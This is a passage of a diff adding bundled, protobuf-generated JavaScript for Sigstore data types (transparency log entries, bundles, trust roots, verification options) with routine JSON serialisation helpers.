+		            end: isSet(object.end) ? fromJsonTimestamp(object.end) : undefined,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.start !== undefined) {
+		            obj.start = message.start.toISOString();
+		        }
+		        if (message.end !== undefined) {
+		            obj.end = message.end.toISOString();
+		        }
+		        return obj;
+		    },
+		};
+		function bytesFromBase64(b64) {
+		    return Uint8Array.from(globalThis.Buffer.from(b64, "base64"));
+		}
+		function base64FromBytes(arr) {
+		    return globalThis.Buffer.from(arr).toString("base64");
+		}
+		function fromTimestamp(t) {
+		    let millis = (globalThis.Number(t.seconds) || 0) * 1_000;
+		    millis += (t.nanos || 0) / 1_000_000;
+		    return new globalThis.Date(millis);
+		}
+		function fromJsonTimestamp(o) {
+		    if (o instanceof globalThis.Date) {
+		        return o;
+		    }
+		    else if (typeof o === "string") {
+		        return new globalThis.Date(o);
+		    }
+		    else {
+		        return fromTimestamp(timestamp_1.Timestamp.fromJSON(o));
+		    }
+		}
+		function isSet(value) {
+		    return value !== null && value !== undefined;
+		} 
+	} (sigstore_common));
+	return sigstore_common;
+}
+
+var sigstore_rekor = {};
+
+var hasRequiredSigstore_rekor;
+
+function requireSigstore_rekor () {
+	if (hasRequiredSigstore_rekor) return sigstore_rekor;
+	hasRequiredSigstore_rekor = 1;
+	(function (exports) {
+		// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+		// versions:
+		//   protoc-gen-ts_proto  v2.12.0
+		//   protoc               v7.35.1
+		// source: sigstore_rekor.proto
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.TransparencyLogEntry = exports.InclusionPromise = exports.InclusionProof = exports.Checkpoint = exports.KindVersion = void 0;
+		/* eslint-disable */
+		const sigstore_common_1 = requireSigstore_common();
+		exports.KindVersion = {
+		    fromJSON(object) {
+		        return {
+		            kind: isSet(object.kind) ? globalThis.String(object.kind) : "",
+		            version: isSet(object.version) ? globalThis.String(object.version) : "",
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.kind !== "") {
+		            obj.kind = message.kind;
+		        }
+		        if (message.version !== "") {
+		            obj.version = message.version;
+		        }
+		        return obj;
+		    },
+		};
+		exports.Checkpoint = {
+		    fromJSON(object) {
+		        return { envelope: isSet(object.envelope) ? globalThis.String(object.envelope) : "" };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.envelope !== "") {
+		            obj.envelope = message.envelope;
+		        }
+		        return obj;
+		    },
+		};
+		exports.InclusionProof = {
+		    fromJSON(object) {
+		        return {
+		            logIndex: isSet(object.logIndex) ? globalThis.String(object.logIndex) : "0",
+		            rootHash: isSet(object.rootHash) ? Buffer.from(bytesFromBase64(object.rootHash)) : Buffer.alloc(0),
+		            treeSize: isSet(object.treeSize) ? globalThis.String(object.treeSize) : "0",
+		            hashes: globalThis.Array.isArray(object?.hashes)
+		                ? object.hashes.map((e) => Buffer.from(bytesFromBase64(e)))
+		                : [],
+		            checkpoint: isSet(object.checkpoint) ? exports.Checkpoint.fromJSON(object.checkpoint) : undefined,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.logIndex !== "0") {
+		            obj.logIndex = message.logIndex;
+		        }
+		        if (message.rootHash.length !== 0) {
+		            obj.rootHash = base64FromBytes(message.rootHash);
+		        }
+		        if (message.treeSize !== "0") {
+		            obj.treeSize = message.treeSize;
+		        }
+		        if (message.hashes?.length) {
+		            obj.hashes = message.hashes.map((e) => base64FromBytes(e));
+		        }
+		        if (message.checkpoint !== undefined) {
+		            obj.checkpoint = exports.Checkpoint.toJSON(message.checkpoint);
+		        }
+		        return obj;
+		    },
+		};
+		exports.InclusionPromise = {
+		    fromJSON(object) {
+		        return {
+		            signedEntryTimestamp: isSet(object.signedEntryTimestamp)
+		                ? Buffer.from(bytesFromBase64(object.signedEntryTimestamp))
+		                : Buffer.alloc(0),
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.signedEntryTimestamp.length !== 0) {
+		            obj.signedEntryTimestamp = base64FromBytes(message.signedEntryTimestamp);
+		        }
+		        return obj;
+		    },
+		};
+		exports.TransparencyLogEntry = {
+		    fromJSON(object) {
+		        return {
+		            logIndex: isSet(object.logIndex) ? globalThis.String(object.logIndex) : "0",
+		            logId: isSet(object.logId) ? sigstore_common_1.LogId.fromJSON(object.logId) : undefined,
+		            kindVersion: isSet(object.kindVersion) ? exports.KindVersion.fromJSON(object.kindVersion) : undefined,
+		            integratedTime: isSet(object.integratedTime) ? globalThis.String(object.integratedTime) : "0",
+		            inclusionPromise: isSet(object.inclusionPromise) ? exports.InclusionPromise.fromJSON(object.inclusionPromise) : undefined,
+		            inclusionProof: isSet(object.inclusionProof) ? exports.InclusionProof.fromJSON(object.inclusionProof) : undefined,
+		            canonicalizedBody: isSet(object.canonicalizedBody)
+		                ? Buffer.from(bytesFromBase64(object.canonicalizedBody))
+		                : Buffer.alloc(0),
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.logIndex !== "0") {
+		            obj.logIndex = message.logIndex;
+		        }
+		        if (message.logId !== undefined) {
+		            obj.logId = sigstore_common_1.LogId.toJSON(message.logId);
+		        }
+		        if (message.kindVersion !== undefined) {
+		            obj.kindVersion = exports.KindVersion.toJSON(message.kindVersion);
+		        }
+		        if (message.integratedTime !== "0") {
+		            obj.integratedTime = message.integratedTime;
+		        }
+		        if (message.inclusionPromise !== undefined) {
+		            obj.inclusionPromise = exports.InclusionPromise.toJSON(message.inclusionPromise);
+		        }
+		        if (message.inclusionProof !== undefined) {
+		            obj.inclusionProof = exports.InclusionProof.toJSON(message.inclusionProof);
+		        }
+		        if (message.canonicalizedBody.length !== 0) {
+		            obj.canonicalizedBody = base64FromBytes(message.canonicalizedBody);
+		        }
+		        return obj;
+		    },
+		};
+		function bytesFromBase64(b64) {
+		    return Uint8Array.from(globalThis.Buffer.from(b64, "base64"));
+		}
+		function base64FromBytes(arr) {
+		    return globalThis.Buffer.from(arr).toString("base64");
+		}
+		function isSet(value) {
+		    return value !== null && value !== undefined;
+		} 
+	} (sigstore_rekor));
+	return sigstore_rekor;
+}
+
+var hasRequiredSigstore_bundle;
+
+function requireSigstore_bundle () {
+	if (hasRequiredSigstore_bundle) return sigstore_bundle;
+	hasRequiredSigstore_bundle = 1;
+	(function (exports) {
+		// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+		// versions:
+		//   protoc-gen-ts_proto  v2.12.0
+		//   protoc               v7.35.1
+		// source: sigstore_bundle.proto
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.Bundle = exports.VerificationMaterial = exports.TimestampVerificationData = void 0;
+		/* eslint-disable */
+		const envelope_1 = requireEnvelope();
+		const sigstore_common_1 = requireSigstore_common();
+		const sigstore_rekor_1 = requireSigstore_rekor();
+		exports.TimestampVerificationData = {
+		    fromJSON(object) {
+		        return {
+		            rfc3161Timestamps: globalThis.Array.isArray(object?.rfc3161Timestamps)
+		                ? object.rfc3161Timestamps.map((e) => sigstore_common_1.RFC3161SignedTimestamp.fromJSON(e))
+		                : [],
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.rfc3161Timestamps?.length) {
+		            obj.rfc3161Timestamps = message.rfc3161Timestamps.map((e) => sigstore_common_1.RFC3161SignedTimestamp.toJSON(e));
+		        }
+		        return obj;
+		    },
+		};
+		exports.VerificationMaterial = {
+		    fromJSON(object) {
+		        return {
+		            content: isSet(object.publicKey)
+		                ? { $case: "publicKey", publicKey: sigstore_common_1.PublicKeyIdentifier.fromJSON(object.publicKey) }
+		                : isSet(object.x509CertificateChain)
+		                    ? {
+		                        $case: "x509CertificateChain",
+		                        x509CertificateChain: sigstore_common_1.X509CertificateChain.fromJSON(object.x509CertificateChain),
+		                    }
+		                    : isSet(object.certificate)
+		                        ? { $case: "certificate", certificate: sigstore_common_1.X509Certificate.fromJSON(object.certificate) }
+		                        : undefined,
+		            tlogEntries: globalThis.Array.isArray(object?.tlogEntries)
+		                ? object.tlogEntries.map((e) => sigstore_rekor_1.TransparencyLogEntry.fromJSON(e))
+		                : [],
+		            timestampVerificationData: isSet(object.timestampVerificationData)
+		                ? exports.TimestampVerificationData.fromJSON(object.timestampVerificationData)
+		                : undefined,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.content?.$case === "publicKey") {
+		            obj.publicKey = sigstore_common_1.PublicKeyIdentifier.toJSON(message.content.publicKey);
+		        }
+		        else if (message.content?.$case === "x509CertificateChain") {
+		            obj.x509CertificateChain = sigstore_common_1.X509CertificateChain.toJSON(message.content.x509CertificateChain);
+		        }
+		        else if (message.content?.$case === "certificate") {
+		            obj.certificate = sigstore_common_1.X509Certificate.toJSON(message.content.certificate);
+		        }
+		        if (message.tlogEntries?.length) {
+		            obj.tlogEntries = message.tlogEntries.map((e) => sigstore_rekor_1.TransparencyLogEntry.toJSON(e));
+		        }
+		        if (message.timestampVerificationData !== undefined) {
+		            obj.timestampVerificationData = exports.TimestampVerificationData.toJSON(message.timestampVerificationData);
+		        }
+		        return obj;
+		    },
+		};
+		exports.Bundle = {
+		    fromJSON(object) {
+		        return {
+		            mediaType: isSet(object.mediaType) ? globalThis.String(object.mediaType) : "",
+		            verificationMaterial: isSet(object.verificationMaterial)
+		                ? exports.VerificationMaterial.fromJSON(object.verificationMaterial)
+		                : undefined,
+		            content: isSet(object.messageSignature)
+		                ? { $case: "messageSignature", messageSignature: sigstore_common_1.MessageSignature.fromJSON(object.messageSignature) }
+		                : isSet(object.dsseEnvelope)
+		                    ? { $case: "dsseEnvelope", dsseEnvelope: envelope_1.Envelope.fromJSON(object.dsseEnvelope) }
+		                    : undefined,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.mediaType !== "") {
+		            obj.mediaType = message.mediaType;
+		        }
+		        if (message.verificationMaterial !== undefined) {
+		            obj.verificationMaterial = exports.VerificationMaterial.toJSON(message.verificationMaterial);
+		        }
+		        if (message.content?.$case === "messageSignature") {
+		            obj.messageSignature = sigstore_common_1.MessageSignature.toJSON(message.content.messageSignature);
+		        }
+		        else if (message.content?.$case === "dsseEnvelope") {
+		            obj.dsseEnvelope = envelope_1.Envelope.toJSON(message.content.dsseEnvelope);
+		        }
+		        return obj;
+		    },
+		};
+		function isSet(value) {
+		    return value !== null && value !== undefined;
+		} 
+	} (sigstore_bundle));
+	return sigstore_bundle;
+}
+
+var sigstore_trustroot = {};
+
+var hasRequiredSigstore_trustroot;
+
+function requireSigstore_trustroot () {
+	if (hasRequiredSigstore_trustroot) return sigstore_trustroot;
+	hasRequiredSigstore_trustroot = 1;
+	(function (exports) {
+		// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+		// versions:
+		//   protoc-gen-ts_proto  v2.12.0
+		//   protoc               v7.35.1
+		// source: sigstore_trustroot.proto
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.ClientTrustConfig = exports.ServiceConfiguration = exports.Service = exports.SigningConfig = exports.TrustedRoot = exports.CertificateAuthority = exports.TransparencyLogInstance = exports.ServiceSelector = void 0;
+		exports.serviceSelectorFromJSON = serviceSelectorFromJSON;
+		exports.serviceSelectorToJSON = serviceSelectorToJSON;
+		/* eslint-disable */
+		const sigstore_common_1 = requireSigstore_common();
+		/**
+		 * ServiceSelector specifies how a client SHOULD select a set of
+		 * Services to connect to. A client SHOULD throw an error if
+		 * the value is SERVICE_SELECTOR_UNDEFINED.
+		 */
+		var ServiceSelector;
+		(function (ServiceSelector) {
+		    ServiceSelector[ServiceSelector["SERVICE_SELECTOR_UNDEFINED"] = 0] = "SERVICE_SELECTOR_UNDEFINED";
+		    /**
+		     * ALL - Clients SHOULD select all Services based on supported API version
+		     * and validity window.
+		     */
+		    ServiceSelector[ServiceSelector["ALL"] = 1] = "ALL";
+		    /**
+		     * ANY - Clients SHOULD select one Service based on supported API version
+		     * and validity window. It is up to the client implementation to
+		     * decide how to select the Service, e.g. random or round-robin.
+		     */
+		    ServiceSelector[ServiceSelector["ANY"] = 2] = "ANY";
+		    /**
+		     * EXACT - Clients SHOULD select a specific number of Services based on
+		     * supported API version and validity window, using the provided
+		     * `count`. It is up to the client implementation to decide how to
+		     * select the Service, e.g. random or round-robin.
+		     */
+		    ServiceSelector[ServiceSelector["EXACT"] = 3] = "EXACT";
+		})(ServiceSelector || (exports.ServiceSelector = ServiceSelector = {}));
+		function serviceSelectorFromJSON(object) {
+		    switch (object) {
+		        case 0:
+		        case "SERVICE_SELECTOR_UNDEFINED":
+		            return ServiceSelector.SERVICE_SELECTOR_UNDEFINED;
+		        case 1:
+		        case "ALL":
+		            return ServiceSelector.ALL;
+		        case 2:
+		        case "ANY":
+		            return ServiceSelector.ANY;
+		        case 3:
+		        case "EXACT":
+		            return ServiceSelector.EXACT;
+		        default:
+		            throw new globalThis.Error("Unrecognized enum value " + object + " for enum ServiceSelector");
+		    }
+		}
+		function serviceSelectorToJSON(object) {
+		    switch (object) {
+		        case ServiceSelector.SERVICE_SELECTOR_UNDEFINED:
+		            return "SERVICE_SELECTOR_UNDEFINED";
+		        case ServiceSelector.ALL:
+		            return "ALL";
+		        case ServiceSelector.ANY:
+		            return "ANY";
+		        case ServiceSelector.EXACT:
+		            return "EXACT";
+		        default:
+		            throw new globalThis.Error("Unrecognized enum value " + object + " for enum ServiceSelector");
+		    }
+		}
+		exports.TransparencyLogInstance = {
+		    fromJSON(object) {
+		        return {
+		            baseUrl: isSet(object.baseUrl) ? globalThis.String(object.baseUrl) : "",
+		            hashAlgorithm: isSet(object.hashAlgorithm) ? (0, sigstore_common_1.hashAlgorithmFromJSON)(object.hashAlgorithm) : 0,
+		            publicKey: isSet(object.publicKey) ? sigstore_common_1.PublicKey.fromJSON(object.publicKey) : undefined,
+		            logId: isSet(object.logId) ? sigstore_common_1.LogId.fromJSON(object.logId) : undefined,
+		            checkpointKeyId: isSet(object.checkpointKeyId) ? sigstore_common_1.LogId.fromJSON(object.checkpointKeyId) : undefined,
+		            operator: isSet(object.operator) ? globalThis.String(object.operator) : "",
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.baseUrl !== "") {
+		            obj.baseUrl = message.baseUrl;
+		        }
+		        if (message.hashAlgorithm !== 0) {
+		            obj.hashAlgorithm = (0, sigstore_common_1.hashAlgorithmToJSON)(message.hashAlgorithm);
+		        }
+		        if (message.publicKey !== undefined) {
+		            obj.publicKey = sigstore_common_1.PublicKey.toJSON(message.publicKey);
+		        }
+		        if (message.logId !== undefined) {
+		            obj.logId = sigstore_common_1.LogId.toJSON(message.logId);
+		        }
+		        if (message.checkpointKeyId !== undefined) {
+		            obj.checkpointKeyId = sigstore_common_1.LogId.toJSON(message.checkpointKeyId);
+		        }
+		        if (message.operator !== "") {
+		            obj.operator = message.operator;
+		        }
+		        return obj;
+		    },
+		};
+		exports.CertificateAuthority = {
+		    fromJSON(object) {
+		        return {
+		            subject: isSet(object.subject) ? sigstore_common_1.DistinguishedName.fromJSON(object.subject) : undefined,
+		            uri: isSet(object.uri) ? globalThis.String(object.uri) : "",
+		            certChain: isSet(object.certChain) ? sigstore_common_1.X509CertificateChain.fromJSON(object.certChain) : undefined,
+		            validFor: isSet(object.validFor) ? sigstore_common_1.TimeRange.fromJSON(object.validFor) : undefined,
+		            operator: isSet(object.operator) ? globalThis.String(object.operator) : "",
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.subject !== undefined) {
+		            obj.subject = sigstore_common_1.DistinguishedName.toJSON(message.subject);
+		        }
+		        if (message.uri !== "") {
+		            obj.uri = message.uri;
+		        }
+		        if (message.certChain !== undefined) {
+		            obj.certChain = sigstore_common_1.X509CertificateChain.toJSON(message.certChain);
+		        }
+		        if (message.validFor !== undefined) {
+		            obj.validFor = sigstore_common_1.TimeRange.toJSON(message.validFor);
+		        }
+		        if (message.operator !== "") {
+		            obj.operator = message.operator;
+		        }
+		        return obj;
+		    },
+		};
+		exports.TrustedRoot = {
+		    fromJSON(object) {
+		        return {
+		            mediaType: isSet(object.mediaType) ? globalThis.String(object.mediaType) : "",
+		            tlogs: globalThis.Array.isArray(object?.tlogs)
+		                ? object.tlogs.map((e) => exports.TransparencyLogInstance.fromJSON(e))
+		                : [],
+		            certificateAuthorities: globalThis.Array.isArray(object?.certificateAuthorities)
+		                ? object.certificateAuthorities.map((e) => exports.CertificateAuthority.fromJSON(e))
+		                : [],
+		            ctlogs: globalThis.Array.isArray(object?.ctlogs)
+		                ? object.ctlogs.map((e) => exports.TransparencyLogInstance.fromJSON(e))
+		                : [],
+		            timestampAuthorities: globalThis.Array.isArray(object?.timestampAuthorities)
+		                ? object.timestampAuthorities.map((e) => exports.CertificateAuthority.fromJSON(e))
+		                : [],
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.mediaType !== "") {
+		            obj.mediaType = message.mediaType;
+		        }
+		        if (message.tlogs?.length) {
+		            obj.tlogs = message.tlogs.map((e) => exports.TransparencyLogInstance.toJSON(e));
+		        }
+		        if (message.certificateAuthorities?.length) {
+		            obj.certificateAuthorities = message.certificateAuthorities.map((e) => exports.CertificateAuthority.toJSON(e));
+		        }
+		        if (message.ctlogs?.length) {
+		            obj.ctlogs = message.ctlogs.map((e) => exports.TransparencyLogInstance.toJSON(e));
+		        }
+		        if (message.timestampAuthorities?.length) {
+		            obj.timestampAuthorities = message.timestampAuthorities.map((e) => exports.CertificateAuthority.toJSON(e));
+		        }
+		        return obj;
+		    },
+		};
+		exports.SigningConfig = {
+		    fromJSON(object) {
+		        return {
+		            mediaType: isSet(object.mediaType) ? globalThis.String(object.mediaType) : "",
+		            caUrls: globalThis.Array.isArray(object?.caUrls) ? object.caUrls.map((e) => exports.Service.fromJSON(e)) : [],
+		            oidcUrls: globalThis.Array.isArray(object?.oidcUrls) ? object.oidcUrls.map((e) => exports.Service.fromJSON(e)) : [],
+		            rekorTlogUrls: globalThis.Array.isArray(object?.rekorTlogUrls)
+		                ? object.rekorTlogUrls.map((e) => exports.Service.fromJSON(e))
+		                : [],
+		            rekorTlogConfig: isSet(object.rekorTlogConfig)
+		                ? exports.ServiceConfiguration.fromJSON(object.rekorTlogConfig)
+		                : undefined,
+		            tsaUrls: globalThis.Array.isArray(object?.tsaUrls) ? object.tsaUrls.map((e) => exports.Service.fromJSON(e)) : [],
+		            tsaConfig: isSet(object.tsaConfig) ? exports.ServiceConfiguration.fromJSON(object.tsaConfig) : undefined,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.mediaType !== "") {
+		            obj.mediaType = message.mediaType;
+		        }
+		        if (message.caUrls?.length) {
+		            obj.caUrls = message.caUrls.map((e) => exports.Service.toJSON(e));
+		        }
+		        if (message.oidcUrls?.length) {
+		            obj.oidcUrls = message.oidcUrls.map((e) => exports.Service.toJSON(e));
+		        }
+		        if (message.rekorTlogUrls?.length) {
+		            obj.rekorTlogUrls = message.rekorTlogUrls.map((e) => exports.Service.toJSON(e));
+		        }
+		        if (message.rekorTlogConfig !== undefined) {
+		            obj.rekorTlogConfig = exports.ServiceConfiguration.toJSON(message.rekorTlogConfig);
+		        }
+		        if (message.tsaUrls?.length) {
+		            obj.tsaUrls = message.tsaUrls.map((e) => exports.Service.toJSON(e));
+		        }
+		        if (message.tsaConfig !== undefined) {
+		            obj.tsaConfig = exports.ServiceConfiguration.toJSON(message.tsaConfig);
+		        }
+		        return obj;
+		    },
+		};
+		exports.Service = {
+		    fromJSON(object) {
+		        return {
+		            url: isSet(object.url) ? globalThis.String(object.url) : "",
+		            majorApiVersion: isSet(object.majorApiVersion) ? globalThis.Number(object.majorApiVersion) : 0,
+		            validFor: isSet(object.validFor) ? sigstore_common_1.TimeRange.fromJSON(object.validFor) : undefined,
+		            operator: isSet(object.operator) ? globalThis.String(object.operator) : "",
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.url !== "") {
+		            obj.url = message.url;
+		        }
+		        if (message.majorApiVersion !== 0) {
+		            obj.majorApiVersion = Math.round(message.majorApiVersion);
+		        }
+		        if (message.validFor !== undefined) {
+		            obj.validFor = sigstore_common_1.TimeRange.toJSON(message.validFor);
+		        }
+		        if (message.operator !== "") {
+		            obj.operator = message.operator;
+		        }
+		        return obj;
+		    },
+		};
+		exports.ServiceConfiguration = {
+		    fromJSON(object) {
+		        return {
+		            selector: isSet(object.selector) ? serviceSelectorFromJSON(object.selector) : 0,
+		            count: isSet(object.count) ? globalThis.Number(object.count) : 0,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.selector !== 0) {
+		            obj.selector = serviceSelectorToJSON(message.selector);
+		        }
+		        if (message.count !== 0) {
+		            obj.count = Math.round(message.count);
+		        }
+		        return obj;
+		    },
+		};
+		exports.ClientTrustConfig = {
+		    fromJSON(object) {
+		        return {
+		            mediaType: isSet(object.mediaType) ? globalThis.String(object.mediaType) : "",
+		            trustedRoot: isSet(object.trustedRoot) ? exports.TrustedRoot.fromJSON(object.trustedRoot) : undefined,
+		            signingConfig: isSet(object.signingConfig) ? exports.SigningConfig.fromJSON(object.signingConfig) : undefined,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.mediaType !== "") {
+		            obj.mediaType = message.mediaType;
+		        }
+		        if (message.trustedRoot !== undefined) {
+		            obj.trustedRoot = exports.TrustedRoot.toJSON(message.trustedRoot);
+		        }
+		        if (message.signingConfig !== undefined) {
+		            obj.signingConfig = exports.SigningConfig.toJSON(message.signingConfig);
+		        }
+		        return obj;
+		    },
+		};
+		function isSet(value) {
+		    return value !== null && value !== undefined;
+		} 
+	} (sigstore_trustroot));
+	return sigstore_trustroot;
+}
+
+var sigstore_verification = {};
+
+var hasRequiredSigstore_verification;
+
+function requireSigstore_verification () {
+	if (hasRequiredSigstore_verification) return sigstore_verification;
+	hasRequiredSigstore_verification = 1;
+	(function (exports) {
+		// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+		// versions:
+		//   protoc-gen-ts_proto  v2.12.0
+		//   protoc               v7.35.1
+		// source: sigstore_verification.proto
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.Input = exports.Artifact = exports.ArtifactVerificationOptions_ObserverTimestampOptions = exports.ArtifactVerificationOptions_TlogIntegratedTimestampOptions = exports.ArtifactVerificationOptions_TimestampAuthorityOptions = exports.ArtifactVerificationOptions_CtlogOptions = exports.ArtifactVerificationOptions_TlogOptions = exports.ArtifactVerificationOptions = exports.PublicKeyIdentities = exports.CertificateIdentities = exports.CertificateIdentity = void 0;
+		/* eslint-disable */
+		const sigstore_bundle_1 = requireSigstore_bundle();
+		const sigstore_common_1 = requireSigstore_common();
+		const sigstore_trustroot_1 = requireSigstore_trustroot();
+		exports.CertificateIdentity = {
+		    fromJSON(object) {
+		        return {
+		            issuer: isSet(object.issuer) ? globalThis.String(object.issuer) : "",
+		            san: isSet(object.san) ? sigstore_common_1.SubjectAlternativeName.fromJSON(object.san) : undefined,
+		            oids: globalThis.Array.isArray(object?.oids)
+		                ? object.oids.map((e) => sigstore_common_1.ObjectIdentifierValuePair.fromJSON(e))
+		                : [],
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.issuer !== "") {
+		            obj.issuer = message.issuer;
+		        }
+		        if (message.san !== undefined) {
+		            obj.san = sigstore_common_1.SubjectAlternativeName.toJSON(message.san);
+		        }
+		        if (message.oids?.length) {
+		            obj.oids = message.oids.map((e) => sigstore_common_1.ObjectIdentifierValuePair.toJSON(e));
+		        }
+		        return obj;
+		    },
+		};
+		exports.CertificateIdentities = {
+		    fromJSON(object) {
+		        return {
+		            identities: globalThis.Array.isArray(object?.identities)
+		                ? object.identities.map((e) => exports.CertificateIdentity.fromJSON(e))
+		                : [],
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.identities?.length) {
+		            obj.identities = message.identities.map((e) => exports.CertificateIdentity.toJSON(e));
+		        }
+		        return obj;
+		    },
+		};
+		exports.PublicKeyIdentities = {
+		    fromJSON(object) {
+		        return {
+		            publicKeys: globalThis.Array.isArray(object?.publicKeys)
+		                ? object.publicKeys.map((e) => sigstore_common_1.PublicKey.fromJSON(e))
+		                : [],
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.publicKeys?.length) {
+		            obj.publicKeys = message.publicKeys.map((e) => sigstore_common_1.PublicKey.toJSON(e));
+		        }
+		        return obj;
+		    },
+		};
+		exports.ArtifactVerificationOptions = {
+		    fromJSON(object) {
+		        return {
+		            signers: isSet(object.certificateIdentities)
+		                ? {
+		                    $case: "certificateIdentities",
+		                    certificateIdentities: exports.CertificateIdentities.fromJSON(object.certificateIdentities),
+		                }
+		                : isSet(object.publicKeys)
+		                    ? { $case: "publicKeys", publicKeys: exports.PublicKeyIdentities.fromJSON(object.publicKeys) }
+		                    : undefined,
+		            tlogOptions: isSet(object.tlogOptions)
+		                ? exports.ArtifactVerificationOptions_TlogOptions.fromJSON(object.tlogOptions)
+		                : undefined,
+		            ctlogOptions: isSet(object.ctlogOptions)
+		                ? exports.ArtifactVerificationOptions_CtlogOptions.fromJSON(object.ctlogOptions)
+		                : undefined,
+		            tsaOptions: isSet(object.tsaOptions)
+		                ? exports.ArtifactVerificationOptions_TimestampAuthorityOptions.fromJSON(object.tsaOptions)
+		                : undefined,
+		            integratedTsOptions: isSet(object.integratedTsOptions)
+		                ? exports.ArtifactVerificationOptions_TlogIntegratedTimestampOptions.fromJSON(object.integratedTsOptions)
+		                : undefined,
+		            observerOptions: isSet(object.observerOptions)
+		                ? exports.ArtifactVerificationOptions_ObserverTimestampOptions.fromJSON(object.observerOptions)
+		                : undefined,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.signers?.$case === "certificateIdentities") {
+		            obj.certificateIdentities = exports.CertificateIdentities.toJSON(message.signers.certificateIdentities);
+		        }
+		        else if (message.signers?.$case === "publicKeys") {
+		            obj.publicKeys = exports.PublicKeyIdentities.toJSON(message.signers.publicKeys);
+		        }
+		        if (message.tlogOptions !== undefined) {
+		            obj.tlogOptions = exports.ArtifactVerificationOptions_TlogOptions.toJSON(message.tlogOptions);
+		        }
+		        if (message.ctlogOptions !== undefined) {
+		            obj.ctlogOptions = exports.ArtifactVerificationOptions_CtlogOptions.toJSON(message.ctlogOptions);
+		        }
+		        if (message.tsaOptions !== undefined) {
+		            obj.tsaOptions = exports.ArtifactVerificationOptions_TimestampAuthorityOptions.toJSON(message.tsaOptions);
+		        }
+		        if (message.integratedTsOptions !== undefined) {
+		            obj.integratedTsOptions = exports.ArtifactVerificationOptions_TlogIntegratedTimestampOptions.toJSON(message.integratedTsOptions);
+		        }
+		        if (message.observerOptions !== undefined) {
+		            obj.observerOptions = exports.ArtifactVerificationOptions_ObserverTimestampOptions.toJSON(message.observerOptions);
+		        }
+		        return obj;
+		    },
+		};
+		exports.ArtifactVerificationOptions_TlogOptions = {
+		    fromJSON(object) {
+		        return {
+		            threshold: isSet(object.threshold) ? globalThis.Number(object.threshold) : 0,
+		            performOnlineVerification: isSet(object.performOnlineVerification)
+		                ? globalThis.Boolean(object.performOnlineVerification)
+		                : false,
+		            disable: isSet(object.disable) ? globalThis.Boolean(object.disable) : false,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.threshold !== 0) {
+		            obj.threshold = Math.round(message.threshold);
+		        }
+		        if (message.performOnlineVerification !== false) {
+		            obj.performOnlineVerification = message.performOnlineVerification;
+		        }
+		        if (message.disable !== false) {
+		            obj.disable = message.disable;
+		        }
+		        return obj;
+		    },
+		};
+		exports.ArtifactVerificationOptions_CtlogOptions = {
+		    fromJSON(object) {
+		        return {
+		            threshold: isSet(object.threshold) ? globalThis.Number(object.threshold) : 0,
+		            disable: isSet(object.disable) ? globalThis.Boolean(object.disable) : false,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.threshold !== 0) {
+		            obj.threshold = Math.round(message.threshold);
+		        }
+		        if (message.disable !== false) {
+		            obj.disable = message.disable;
+		        }
+		        return obj;
+		    },
+		};
+		exports.ArtifactVerificationOptions_TimestampAuthorityOptions = {
+		    fromJSON(object) {
+		        return {
+		            threshold: isSet(object.threshold) ? globalThis.Number(object.threshold) : 0,
+		            disable: isSet(object.disable) ? globalThis.Boolean(object.disable) : false,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.threshold !== 0) {
+		            obj.threshold = Math.round(message.threshold);
+		        }
+		        if (message.disable !== false) {
+		            obj.disable = message.disable;
+		        }
+		        return obj;
+		    },
+		};
+		exports.ArtifactVerificationOptions_TlogIntegratedTimestampOptions = {
+		    fromJSON(object) {
+		        return {
+		            threshold: isSet(object.threshold) ? globalThis.Number(object.threshold) : 0,
+		            disable: isSet(object.disable) ? globalThis.Boolean(object.disable) : false,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.threshold !== 0) {
+		            obj.threshold = Math.round(message.threshold);
+		        }
+		        if (message.disable !== false) {
+		            obj.disable = message.disable;
+		        }
+		        return obj;
+		    },
+		};
+		exports.ArtifactVerificationOptions_ObserverTimestampOptions = {
+		    fromJSON(object) {
+		        return {
+		            threshold: isSet(object.threshold) ? globalThis.Number(object.threshold) : 0,
+		            disable: isSet(object.disable) ? globalThis.Boolean(object.disable) : false,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.threshold !== 0) {
+		            obj.threshold = Math.round(message.threshold);
+		        }
+		        if (message.disable !== false) {
+		            obj.disable = message.disable;
+		        }
+		        return obj;
+		    },
+		};
+		exports.Artifact = {
+		    fromJSON(object) {
+		        return {
